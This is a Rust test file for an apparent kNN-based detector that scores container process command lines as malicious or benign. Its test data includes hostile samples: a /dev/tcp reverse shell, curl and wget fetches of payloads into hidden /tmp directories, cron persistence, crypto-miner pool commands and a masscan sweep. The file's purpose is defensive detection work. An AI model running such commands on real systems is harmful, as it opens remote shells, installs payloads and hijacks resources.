//! The knn judge with the real model and the built-in exemplars.

use std::sync::Arc;

use super::*;
use crate::deviation::{DeviationKind, Tier, Tree};
use crate::embed;
use crate::engines::exemplars;

fn model() -> Box<dyn Embedder> {
    embed::open(&embed::Options { threads: 2, ..embed::Options::default() })
        .unwrap_or_else(|error| panic!("{error}\nhint: {}", error.hint().unwrap_or_default()))
}

fn deviation(text: &str) -> Deviation {
    Deviation {
        ts: 0,
        tree: Tree::Process,
        kind: DeviationKind::NewArguments,
        image: "web".into(),
        container: "c".into(),
        exec_id: None,
        pid: 1,
        path: vec!["web".into()],
        at: 0,
        text: Arc::from(text),
        host_path: None,
        reached: Default::default(),
        tier: Tier::Embedding,
        risk: None,
        changes: Vec::new(),
        token_novelty: None,
        nearest: None,
        volume: None,
        count: 1,
        rows: vec![],
    }
}

fn verdicts(judge: &Knn<'_>, texts: &[&str]) -> Vec<Verdict> {
    let deviations: Vec<Deviation> = texts.iter().map(|text| deviation(text)).collect();
    judge.judge(&deviations.iter().collect::<Vec<_>>()).unwrap()
}

/// Area under the ROC curve: how often a malicious text scores above a benign one.
fn auc(malicious: &[f32], benign: &[f32]) -> f64 {
    let wins =
        |m: &f32| benign.iter().map(|b| if m > b { 1.0 } else { f64::from(u8::from(m == b)) / 2.0 }).sum::<f64>();
    malicious.iter().map(wins).sum::<f64>() / (malicious.len() * benign.len()) as f64
}

/// Each exemplar judged by all the others.
#[test]
fn leave_one_out() {
    let model = model();
    let judge = Knn::new(&*model, exemplars::load(None).unwrap());
    let vectors = judge.vectors().unwrap();
    let (mut malicious, mut benign) = (Vec::new(), Vec::new());
    for (i, exemplar) in judge.exemplars.iter().enumerate() {
        let score = verdict(&vectors[i], &judge.nearest(&vectors[i], vectors, Some(i))).score;
        match exemplar.label {
            Label::Malicious(_) => malicious.push(score),
            Label::Benign(_) => benign.push(score),
        }
        println!("{score:.3} {:?} {}", exemplar.label, exemplar.text);
    }
    let above = |scores: &[f32]| scores.iter().filter(|score| **score >= 0.5).count() as f64 / scores.len() as f64;
    println!(
        "AUC {:.3}, at 0.5: {:.3} of malicious, {:.3} of benign",
        auc(&malicious, &benign),
        above(&malicious),
        above(&benign)
    );
    assert!(auc(&malicious, &benign) > 0.85 && above(&malicious) > 0.6 && above(&benign) < 0.15);
}

/// Lines that are neither exemplars nor in any recording.
#[test]
fn unseen_attacks_score_and_unseen_ordinary_life_does_not() {
    let model = model();
    let judge = Knn::new(&*model, exemplars::load(None).unwrap());
    // The nearest technique is a hint: only where many exemplars speak of it is it expected to be the right one.
    let attacks = [
        ("/srv/bin/render -o stratum+tcp://xmr.kryptex.network:7777 -u wallet -p x -k", Some("T1496")),
        ("/var/tmp/systemd-private/bash --url pool.herominers.com:1111 --user wallet --threads 8", Some("T1496")),
        ("/usr/bin/curl -s -L -o /tmp/.m/agent http://198.51.100.4/agent", None),
        ("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.4/8443 0>&1'", Some("T1059.004")),
        ("/usr/bin/chmod +x /tmp/.m/agent", Some("T1222.002")),
        ("bash writes /etc/cron.d/agent", None),
    ];
    let texts: Vec<&str> = attacks.iter().map(|(text, _)| *text).collect();
    for (verdict, (text, technique)) in verdicts(&judge, &texts).iter().zip(attacks) {
        println!("{:.2} {text}: {}", verdict.score, verdict.reason);
        assert!(verdict.score > 0.5 && verdict.technique.is_some(), "{text}: {verdict:?}");
        assert!(technique.is_none() || verdict.technique.as_deref() == technique, "{text}: {verdict:?}");
        assert_eq!((verdict.judge.as_str(), verdict.engine), ("knn", Engine::Semantics));
    }
    let ordinary = [
        "/usr/bin/curl -fsS http://localhost:9090/healthz",
        "/usr/sbin/nginx -c /etc/nginx/other.conf",
        "/bin/gzip -f /var/log/app/error.log.3",
        "python3 writes /srv/app/cache/item-9.html",
        "nginx connects to app:8080",
        "redis-server writes /var/lib/redis/appendonly.aof",
        "/usr/bin/pg_dump -U app orders",
    ];
    for (verdict, text) in verdicts(&judge, &ordinary).iter().zip(ordinary) {
        println!("{:.2} {text}: {}", verdict.score, verdict.reason);
        assert!(verdict.score < 0.3 && verdict.technique.is_none(), "{text}: {verdict:?}");
    }
}

#[test]
fn what_resembles_nothing_scores_nothing_and_says_so() {
    let model = model();
    let judge = Knn::new(&*model, exemplars::load(None).unwrap());
    let verdict = verdicts(&judge, &["the quick brown fox jumps over the lazy dog"]).remove(0);
    assert_eq!((verdict.score, verdict.technique), (0.0, None));
    assert!(verdict.reason.starts_with("resembles nothing known"), "{}", verdict.reason);
    assert!(verdicts(&judge, &[]).is_empty());
    assert!(verdicts(&Knn::new(&*model, Vec::new()), &["x"])[0].score == 0.0);
}

#[test]
fn text_that_was_not_wholly_seen_counts_half_and_says_so() {
    let model = model();
    let judge = Knn::new(&*model, exemplars::load(None).unwrap());
    let command = "/usr/bin/wget -q -O /tmp/.k/loader http://198.51.100.4/loader";
    let unreadable = format!("{command} {}", "é".repeat(120));
    let long = format!("{command} {}", "--header x ".repeat(150));
    let [whole, unknown, truncated] =
        <[Verdict; 3]>::try_from(verdicts(&judge, &[command, &unreadable, &long])).unwrap();
    assert!(whole.score > 0.8, "{whole:?}");
    assert!(unknown.score <= 0.5 && unknown.reason.contains("could not be read"), "{unknown:?}");
    assert!(truncated.score <= 0.5 && truncated.reason.contains("its end was not judged"), "{truncated:?}");
}

#[test]
fn names_that_carry_no_meaning_are_masked_alike() {
    for (text, normal) in [
        ("curl  http://203.0.113.9/a", "curl http://<ip:public>/a"),
        ("nc 10.0.0.1 443", "nc <ip:private> 443"),
        ("redis connects to 127.0.0.1:6379", "redis connects to <ip:loopback>:6379"),
        ("x -u 4Abcdefghij0123456789abcdefghij0123456789 -p x", "x -u <key> -p x"),
        ("rm /tmp/3f2504e0-4f89-11d3-9a0c-0305e82c3301.log", "rm /tmp/3f2504e0-4f89-11d3-9a0c-0305e82c3301.log"),
        ("git show 0123456789abcdef0123", "git show <hex>"),
        ("id=3f2504e0-4f89-11d3-9a0c-0305e82c3301", "id=<uuid>"),
        ("a-long-but-readable-name-of-a-file-1.tar.gz", "a-long-but-readable-name-of-a-file-1.tar.gz"),
        ("é/日本 ü", "é/日本 ü"),
        ("", ""),
    ] {
        assert_eq!(normalise(text), normal);
    }
}

#[test]
fn verdicts_do_not_depend_on_company() {
    let model = model();
    let judge = Knn::new(&*model, exemplars::load(None).unwrap());
    let texts = ["/bin/sh -c 'id; whoami'", "nginx connects to app:8000", "/usr/bin/masscan 10.0.0.0/8 -p 22", "a"];
    let together = verdicts(&judge, &texts);
    for (text, verdict) in texts.iter().zip(&together) {
        assert_eq!(&verdicts(&judge, &[text])[0], verdict);
    }
}
